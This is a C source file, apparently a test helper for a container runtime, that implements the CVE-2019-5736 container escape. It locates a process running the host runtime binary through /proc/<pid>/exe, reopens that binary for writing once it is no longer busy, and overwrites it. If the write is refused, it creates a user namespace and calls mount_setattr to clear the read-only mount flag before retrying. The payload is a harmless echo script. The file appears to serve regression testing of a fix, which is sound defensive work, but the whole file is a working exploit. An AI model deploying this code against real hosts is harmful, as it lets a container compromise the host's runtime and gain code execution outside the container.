/* exe_attack: the CVE-2019-5736 attack as published, from inside a container, against
 * whatever the runtime left reachable through /proc/<pid>/exe.
 *
 *   exe_attack FIFO
 *
 * Makes the fifo FIFO and prints "ready". A victim, started by the test, is a process that
 * executes /proc/self/exe (directly or as a script's interpreter) while its image is still
 * the runtime's, as `RUNTIME --log FIFO state x`: the runtime it ran blocks opening FIFO
 * for writing. The attacker finds it (a process whose exe is neither its own nor
 * /bin/busybox), opens its exe O_PATH, opens FIFO for reading so the victim finishes, and
 * once no one executes that file any more (ETXTBSY gone) reopens it for writing through
 * /proc/self/fd/N and writes. Refused, it then makes a user namespace of its own (in which
 * it holds CAP_SYS_ADMIN), clears the read-only flag of the handle's mount with
 * mount_setattr, and tries again. One report line:
 *
 *   exe=<link> open=<ok|ERRNO> setattr=<ok|ERRNO|-> reopen=<ok|ERRNO|-> write=<ok|ERRNO|->
 *
 * then "done". Exit 0 once the report is printed, 1 when no victim came. Built static: the
 * busybox rootfs has no libc. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#define ATTR_RDONLY 0x1ULL
#define POLL_TRIES  1000 /* of 10 ms each, for the victim */
#define BUSY_TRIES  500	 /* of 10 ms each, for the victim's end */
#define PAYLOAD	    "#!/bin/sh\necho the runtime was overwritten\n"

struct attr {
	uint64_t set, clr, propagation, userns_fd;
};

static void pause_10ms(void)
{
	nanosleep(&(struct timespec){0, 10 * 1000 * 1000}, NULL);
}

static const char *errno_name(int e)
{
	static const struct {
		int num;
		const char *name;
	} names[] = {{EROFS, "EROFS"},	   {EPERM, "EPERM"},   {EACCES, "EACCES"},
		     {ETXTBSY, "ETXTBSY"}, {EINVAL, "EINVAL"}, {ENOENT, "ENOENT"},
		     {ENOSYS, "ENOSYS"},   {EBADF, "EBADF"}};
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (names[i].num == e)
			return names[i].name;
	static char buf[16];
	snprintf(buf, sizeof(buf), "E%d", e);
	return buf;
}

static bool same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* O_PATH fd of the exe of a process that is neither busybox nor this program; -1 if none. */
static int grab_victim_exe(void)
{
	struct stat self, busybox, st;
	DIR *proc = opendir("/proc");
	if (!proc || stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &busybox) < 0) {
		if (proc)
			closedir(proc);
		return -1;
	}
	int found = -1;
	for (struct dirent *e; found < 0 && (e = readdir(proc));) {
		char path[300];
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0 && !same_file(&st, &self) && !same_file(&st, &busybox))
			found = fd;
		else
			close(fd);
	}
	closedir(proc);
	return found;
}

/* Lets the victim finish: it blocks opening the fifo for writing until a reader comes. */
static void release_victim(const char *fifo)
{
	int fd = open(fifo, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	char buf[4096];
	while (read(fd, buf, sizeof(buf)) > 0)
		;
	close(fd);
}

/* Opens the handle for writing once no process executes it any more; errno when not. */
static int reopen_for_write(int handle)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	for (int i = 0; i < BUSY_TRIES; i++) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			return fd;
		pause_10ms();
	}
	return -1;
}

static const char *write_payload(int fd)
{
	if (fd < 0)
		return "-";
	ssize_t n = pwrite(fd, PAYLOAD, strlen(PAYLOAD), 0);
	return n == (ssize_t)strlen(PAYLOAD) ? "ok" : n < 0 ? errno_name(errno) : "short";
}

/* The mount of the handle made writable from a user namespace of our own. */
static const char *clear_read_only(int handle)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return errno_name(errno);
	struct attr a = {.clr = ATTR_RDONLY};
	if (syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &a, sizeof(a)) < 0)
		return errno_name(errno);
	return "ok";
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: exe_attack FIFO\n");
		return 2;
	}
	if (mkfifo(argv[1], 0666) < 0 && errno != EEXIST) {
		perror("mkfifo");
		return 1;
	}
	setvbuf(stdout, NULL, _IONBF, 0);
	printf("ready\n");
	int handle = -1;
	for (int i = 0; i < POLL_TRIES && handle < 0; i++, pause_10ms())
		handle = grab_victim_exe();
	if (handle < 0) {
		printf("no victim\n");
		return 1;
	}
	char proc[64], link[256] = "?";
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", handle);
	ssize_t n = readlink(proc, link, sizeof(link) - 1);
	link[n > 0 ? n : 1] = '\0';
	release_victim(argv[1]);

	int fd = reopen_for_write(handle);
	const char *open_result = fd >= 0 ? "ok" : errno_name(errno);
	const char *setattr = "-", *reopen = "-", *written = write_payload(fd);
	if (fd < 0) {
		setattr = clear_read_only(handle);
		fd = reopen_for_write(handle);
		reopen = fd >= 0 ? "ok" : errno_name(errno);
		written = write_payload(fd);
	}
	printf("exe=%s open=%s setattr=%s reopen=%s write=%s\ndone\n", link, open_result, setattr,
	       reopen, written);
	return 0;
}
